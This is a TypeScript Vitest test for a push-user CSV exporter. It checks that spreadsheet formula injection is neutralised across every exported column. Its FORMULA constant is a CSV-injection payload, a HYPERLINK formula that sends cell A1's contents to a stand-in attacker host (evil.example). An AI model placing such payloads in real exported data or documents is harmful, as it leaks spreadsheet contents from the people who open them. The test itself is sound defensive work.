import { describe, expect, it } from 'vitest';
import type { PushMessageUser } from '../../../../shared/contract/index.ts';
import { toCsv } from '../../../lib/csv-export.ts';
import { pushUserCsvColumns } from './push-user-csv.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Open")\nmore text';

describe('push-user CSV export', () => {
  it('neutralises a multi-line formula in every exported column', async () => {
    const user: PushMessageUser = {
      Id: 1,
      UserName: FORMULA,
      DeviceType: FORMULA,
      Manufacturer: FORMULA,
      Model: FORMULA,
      OsVersion: FORMULA,
      CreatedTimeStampUtc: FORMULA,
      ModifiedTimestampUtc: FORMULA,
      Status: 1,
    };
    const text = await toCsv([user], pushUserCsvColumns);
    const { parse } = await import('papaparse');
    const [header = [], row = []] = parse<string[]>(text, { newline: '\r\n' }).data;
    const cells = Object.fromEntries(header.map((name, i) => [name, row[i] ?? '']));
    for (const [name, cell] of Object.entries(cells)) expect(cell, name).not.toMatch(/^[=+\-@\t\r]/);
    const fromText = Object.entries(cells).filter(([, cell]) => cell.includes('HYPERLINK'));
    expect(fromText.map(([name]) => name).sort()).toEqual(
      ['UserName', 'DeviceType', 'Manufacturer', 'Model', 'OsVersion', 'Registered (UTC)', 'Modified (UTC)'].sort(),
    );
    for (const [, cell] of fromText) expect(cell).toBe(`'${FORMULA}`);
  });
});
